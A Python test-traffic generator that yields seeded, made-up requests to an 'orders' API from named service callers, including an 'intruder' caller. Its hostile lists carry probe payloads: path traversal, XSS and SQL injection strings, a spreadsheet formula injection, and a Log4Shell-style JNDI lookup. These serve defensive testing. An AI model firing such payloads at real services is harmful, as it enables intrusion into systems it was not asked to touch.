"""What is asked of `orders`: callers, operations, hostile paths. The same seed gives the same questions, one after another.

Nothing here is real but the requests themselves: callers, orders and the mix of operations are made up.
"""

import random

SEED = 20261126
SHOP, OPS = "spiffe://shop.example/ns/shop/sa/", "spiffe://shop.example/ns/ops/sa/"
# `intruder` has a good certificate of a name that no inventory has.
IDS = {name: SHOP + name for name in ("checkout", "reports", "refunds", "fulfilment", "legacy", "intruder")}
IDS |= {name: OPS + name for name in ("console", "prober")}
# They speak HTTP/2; the others HTTP/1.1.
HTTP2 = {"refunds", "fulfilment", "console"}
AGENTS = {
    "checkout": "checkout/4.2", "reports": "python-requests/2.32.3", "refunds": "Go-http-client/1.1",
    "fulfilment": "okhttp/4.12.0", "console": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "legacy": "Java/1.8.0_412", "intruder": "curl/8.11.1", "prober": "kube-probe/1.33",
}
HOSTILE = [
    "/v1/orders/../admin", "/v1/orders/%2e%2e/admin", "/v1/orders/..%2fadmin", "//v1/orders", "/v1//orders/17", "/v1/orders/17;a=b",
    "/v1/orders/17%00", "/v1/orders/<script>alert(1)</script>", "/v1/orders/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/v1/orders/'%20OR%201=1--", "/v1/orders/\"quoted\"", "/v1/orders/back\\slash", "/.git/config", "/v1/orders/4111111111111111",
    "/v1/orders/" + "a" * 2000, "/v1/orders/%c3%a9t%c3%a9", "/v1/orders?q=\"};alert(1);{\"", "/V1/ORDERS/17", "/v1/orders/17/", "/%76%31/orders",
]
HOSTILE_AGENTS = ["<script>alert('ua')</script>", "\"quoted\"", "=cmd|' /C calc'!A0", "a\tb", "${jndi:ldap://x.invalid/a}"]


class Question:
    """One request. `cut` breaks it off in the middle of its body."""

    def __init__(self, number, caller, method, target, agent, body=b"", cut=False):
        self.number, self.caller, self.method, self.target = number, caller, method, target
        self.agent, self.body, self.cut = agent, body, cut
        self.id = f"7c1e5a00-0000-4000-8000-{number:012x}"


def questions(count):
    """So many questions, always the same ones."""
    rng = random.Random(SEED)
    order = lambda: rng.randrange(1, 400)
    lawful = [
        (18, "checkout", "POST", lambda: "/v1/orders"), (14, "checkout", "GET", lambda: f"/v1/orders/{order()}"),
        (6, "checkout", "GET", lambda: f"/v1/orders?page={rng.randrange(9)}"),
        (10, "reports", "GET", lambda: "/v1/orders?from=2026-11-01"), (6, "reports", "GET", lambda: f"/v1/orders/{order()}"),
        (7, "refunds", "GET", lambda: f"/v1/orders/{order()}"), (5, "refunds", "POST", lambda: f"/v1/orders/{order()}/refund"),
        (6, "fulfilment", "GET", lambda: f"/v1/orders/{order()}"), (5, "fulfilment", "PUT", lambda: f"/v1/orders/{order()}/state"),
        (4, "console", "GET", lambda: f"/v1/orders/{order()}"), (2, "console", "DELETE", lambda: f"/v1/orders/{order()}"),
        (3, "legacy", "GET", lambda: f"/v1/orders/{order()}"), (1, "legacy", "POST", lambda: "/v1/orders"),
        (2, "intruder", "GET", lambda: rng.choice(["/", "/admin", "/v1/orders", "/v1/users", "/actuator/env"])),
        (8, "prober", "GET", lambda: "/healthz"),
    ]
    weights = [weight for weight, *_ in lawful]
    for number in range(count):
        odd = rng.random()
        if odd < 0.02:
            yield Question(number, rng.choice(["checkout", "intruder", "console"]), "GET", rng.choice(HOSTILE), rng.choice(HOSTILE_AGENTS))
            continue
        _, caller, method, target = rng.choices(lawful, weights)[0]
        body = b'{"sku":"A-%d"}' % rng.randrange(90) if method in ("POST", "PUT") else b""
        # A few callers go away in the middle of their body.
        cut = odd < 0.03 and method == "POST"
        yield Question(number, caller, method, target(), AGENTS[caller], body, cut)
